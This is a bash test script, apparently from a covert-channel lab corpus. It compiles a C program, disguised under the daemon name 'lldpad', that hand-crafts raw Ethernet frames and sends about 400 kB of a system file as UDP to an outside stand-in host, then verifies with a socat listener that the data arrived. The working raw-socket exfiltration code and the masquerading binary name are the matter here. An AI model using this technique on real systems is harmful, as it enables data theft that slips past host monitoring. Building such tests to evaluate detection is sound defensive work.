#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=covert-socket half=report tool=gcc far=out ready=out:4900 seconds=30 parts=dns before=yes
# A small program makes frames by hand, datagrams of UDP for a host outside in them, and gives them to the device below all that counts: a file of 400 kB.
if [ "$1" = before ]; then
	cat >"$LAB/f.c" <<'END'
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char **argv) // DEVICE MAC-OF-THE-GATEWAY
{
	unsigned char p[1500] = {0}, mac[6];
	struct ifreq want = {0};
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_halen = 6};
	int s = socket(AF_PACKET, SOCK_RAW, 0);
	FILE *f = fopen("/usr/bin/openssl", "r");
	(void)argc;
	strncpy(want.ifr_name, argv[1], IFNAMSIZ - 1);
	sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5);
	ioctl(s, SIOCGIFINDEX, &want);
	to.sll_ifindex = want.ifr_ifindex;
	ioctl(s, SIOCGIFHWADDR, &want);
	memcpy(p, mac, 6);
	memcpy(p + 6, want.ifr_hwaddr.sa_data, 6);
	p[12] = 8;
	for (int n = 0; n < 400; n++) {
		struct iphdr ip = {.ihl = 5, .version = 4, .tot_len = htons(1028), .id = htons((unsigned short)n), .ttl = 64, .protocol = 17};
		struct udphdr u = {.source = htons(4901), .dest = htons(4900), .len = htons(1008)};
		unsigned long sum = 0;
		unsigned short w[10];
		inet_pton(AF_INET, "10.30.0.2", &ip.saddr);
		inet_pton(AF_INET, "203.0.113.66", &ip.daddr);
		memcpy(w, &ip, 20);
		for (int i = 0; i < 10; i++)
			sum += w[i];
		while (sum >> 16)
			sum = (sum & 0xffff) + (sum >> 16);
		ip.check = (unsigned short)~sum;
		memcpy(p + 14, &ip, 20);
		memcpy(p + 34, &u, 8);
		if (fread(p + 42, 1, 1000, f) != 1000 || sendto(s, p, 1042, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
			return 1;
		usleep(50000);
	}
	return 0;
}
END
	exec gcc -O1 -o "$LAB/lldpad" "$LAB/f.c"
fi
if [ "$1" = out ]; then exec timeout 50 socat -u UDP-RECV:4900,bind=203.0.113.66 "OPEN:$LAB/got,creat,append"; fi
ping -c 1 -W 1 10.30.0.1 >/dev/null; dev=$(ip -o -4 addr show | awk '/10\.30\.0\.2\//{print $2; exit}')
timeout 28 "$LAB/lldpad" "${dev%@*}" "$(ip neigh show 10.30.0.1 | grep -o '..:..:..:..:..:..')"; sleep 2; [ "$(stat -c %s "$LAB/got")" -gt 350000 ]
